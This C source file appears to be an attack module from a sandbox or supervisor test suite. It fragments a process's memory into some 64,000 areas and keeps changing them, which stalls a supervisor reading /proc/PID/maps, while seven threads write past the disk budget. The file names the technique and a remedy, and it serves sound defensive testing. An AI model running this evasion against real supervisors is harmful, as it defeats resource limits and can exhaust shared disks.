// SPDX-License-Identifier: MIT
/*
 * long-maps.c - who watches the disk is reading 65000 lines.
 *
 * Goal:  more bytes on disk than the budget.
 * Means: a supervisor that counts the areas of an address space reads /proc/PID/maps, 5 MiB of
 *        text, and a thread that splits and joins areas makes it begin again and again. Seven others,
 *        which were waiting, write their files.
 */
#include "attacks/attack.h"

#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

enum { FILES = 7, MIB = 15, SPLITTERS = 1, AREAS = 64000 };

static char block[1 << 20], *range;
static volatile bool go, stop;
static atomic_int done;

static void *split(void *arg)
{
	char *mine = range + (AREAS + 8 * (intptr_t)arg) * 4096l;

	while (!stop) {
		mprotect(mine, 4096, PROT_READ);
		mprotect(mine, 4096, PROT_NONE);
	}
	return NULL;
}

static void *pour(void *arg)
{
	while (!go)
		usleep(1000);
	for (int i = 0; i < MIB; i++)
		if (write((int)(intptr_t)arg, block, sizeof(block)) < 0)
			break;
	done++;
	return NULL;
}

static enum claim run(const struct brief *b)
{
	const char *dir = getenv("TMPDIR");
	char name[16];
	pthread_attr_t a;
	pthread_t t;

	range = mmap(NULL, (AREAS + 64) * 4096l, PROT_NONE,
		     MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	if (range == MAP_FAILED || chdir(dir ? dir : "/tmp"))
		return failed("chdir");
	memset(block, 'x', sizeof(block));
	for (long i = 0; i < AREAS; i += 2)
		mprotect(range + i * 4096, 4096, PROT_READ);
	pthread_attr_init(&a);
	pthread_attr_setstacksize(&a, 64 << 10);
	attempting(b);
	for (int i = 0; i < FILES; i++) {
		int fd;

		snprintf(name, sizeof(name), "part-%d", i);
		fd = open(name, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
		if (fd < 0 || pthread_create(&t, &a, pour, (void *)(intptr_t)fd))
			return denied("open");
	}
	for (intptr_t i = 0; i < SPLITTERS; i++)
		if (pthread_create(&t, &a, split, (void *)i))
			return denied("pthread_create");
	usleep(200000);
	go = true;
	for (int ms = 0; done < FILES && ms < 7000; ms++)
		usleep(1000);
	return hold();
}

const struct attack attack = {
	.effect = "more bytes on disk than the budget",
	.means = "seven threads write while the supervisor reads the maps of 64000 areas, which "
		 "change",
	.oracle = "usage:disk",
	.attack_id = "T1499.001, CWE-400",
	.remedy = "a watch of the disk that reads nothing of the program's; a quota",
	.refs = (const char *const[]){ "proc_pid_maps(5)", NULL },
	.run = run,
};
